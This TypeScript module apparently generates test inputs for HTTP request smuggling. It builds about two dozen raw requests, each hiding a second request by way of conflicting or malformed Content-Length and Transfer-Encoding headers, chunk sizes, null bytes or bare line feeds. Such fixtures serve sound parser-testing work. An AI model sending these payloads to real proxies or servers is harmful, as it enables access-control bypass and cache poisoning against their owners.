/** The second request that an attacker hides in a first one; it asks for a path that everyone may see. */
const hide = (path: string) => `GET ${path} HTTP/1.1\r\nhost: x\r\nx-hidden: 1\r\n\r\n`;

/**
 * Requests that a proxy and a server might read differently, each with a second one hidden in what one of them takes for its body: by
 * name, as bytes (RFC 9112, 6.1 and 11.2). `path` is asked by the first, `hidden` by the second.
 */
export function smuggled(path: string, hidden: string): Readonly<Record<string, string>> {
  const second = hide(hidden);
  const start = `POST ${path} HTTP/1.1\r\nhost: x\r\n`;
  const chunked = `0\r\n\r\n${second}`;
  const withHeaders = (headers: string, body: string) => `${start}${headers}\r\n\r\n${body}`;
  return {
    'a length and chunks': withHeaders('content-length: 4\r\ntransfer-encoding: chunked', chunked),
    'chunks and a length': withHeaders('transfer-encoding: chunked\r\ncontent-length: 4', chunked),
    'two encodings': withHeaders('transfer-encoding: chunked\r\ntransfer-encoding: identity', chunked),
    'an encoding that is none': withHeaders('content-length: 4\r\ntransfer-encoding: xchunked', chunked),
    'an encoding behind a tab': withHeaders('content-length: 4\r\ntransfer-encoding:\tchunked', chunked),
    'a blank before the colon': withHeaders('content-length: 4\r\ntransfer-encoding : chunked', chunked),
    'an encoding on a folded line': withHeaders(
      'content-length: 4\r\ntransfer-encoding:\r\n chunked',
      chunked,
    ),
    'an encoding with a vertical tab': withHeaders(
      'content-length: 4\r\ntransfer-encoding: \u000bchunked',
      chunked,
    ),
    'chunks that are not last': withHeaders('transfer-encoding: chunked, identity', chunked),
    'two lengths': withHeaders(`content-length: 0\r\ncontent-length: ${second.length}`, second),
    'two lengths on a line': withHeaders(`content-length: 0, ${second.length}`, second),
    'a length with a sign': withHeaders('content-length: +0', second),
    'a negative length': withHeaders('content-length: -1', second),
    'a length in hexadecimal': withHeaders('content-length: 0x0', second),
    'a length with a letter': withHeaders('content-length: 0a', second),
    'a chunk that overflows': withHeaders(
      'transfer-encoding: chunked',
      `fffffffffffffffff0\r\n\r\n${second}`,
    ),
    'a chunk of a negative size': withHeaders('transfer-encoding: chunked', `-1\r\n\r\n${second}`),
    'a chunk ended by a line feed': withHeaders('transfer-encoding: chunked', `1;\nx\n0\n\n${second}`),
    'a null in a header': withHeaders(`x-first: a\u0000\r\ncontent-length: 0`, second),
    'a header without a name': withHeaders(`: chunked\r\ncontent-length: 0`, second),
    'a line feed in the address': `POST ${path}\n${second}`,
    'chunks in HTTP/1.0': `POST ${path} HTTP/1.0\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n${chunked}`,
    'an older protocol': `POST ${path}\r\n${second}`,
  };
}
